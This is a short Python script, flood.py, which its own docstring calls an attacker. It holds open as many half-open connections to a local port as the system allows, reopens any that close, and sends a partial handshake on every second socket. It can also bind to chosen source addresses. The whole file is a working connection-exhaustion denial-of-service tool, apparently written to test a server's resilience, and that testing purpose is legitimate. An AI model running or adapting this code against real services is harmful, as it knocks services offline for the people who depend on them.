"""An attacker: keeps as many connections to a port half open as it can, and opens each again that is closed.

    python flood.py PORT CONNECTIONS [SOURCE]

Every second connection says half a hello. Prints "flooding" once so many were opened, then goes on until it is killed.
"""

import contextlib
import resource
import selectors
import socket
import sys

HALF = b"EPRUNE\x00\x01\x00"


def main(port, wanted, source="127.0.0.1"):
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    selector = selectors.DefaultSelector()
    opened = held = 0
    while True:
        while held < wanted:
            connection = socket.socket()
            connection.setblocking(False)
            if source != "127.0.0.1":
                connection.setsockopt(socket.SOL_SOCKET, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
                connection.bind((source, 0))
            with contextlib.suppress(BlockingIOError):
                try:
                    connection.connect(("127.0.0.1", port))
                except OSError as error:
                    if not isinstance(error, BlockingIOError):
                        connection.close()
                        break
            selector.register(connection, selectors.EVENT_WRITE)
            held += 1
            opened += 1
            if opened == wanted:
                print("flooding", flush=True)
        for key, events in selector.select(0.01):
            connection = key.fileobj
            try:
                if events & selectors.EVENT_WRITE:
                    if connection.fileno() % 2:
                        connection.send(HALF)
                    selector.modify(connection, selectors.EVENT_READ)
                elif not connection.recv(4096):
                    raise ConnectionResetError
            except OSError:
                selector.unregister(connection)
                connection.close()
                held -= 1


if __name__ == "__main__":
    main(int(sys.argv[1]), int(sys.argv[2]), *sys.argv[3:])
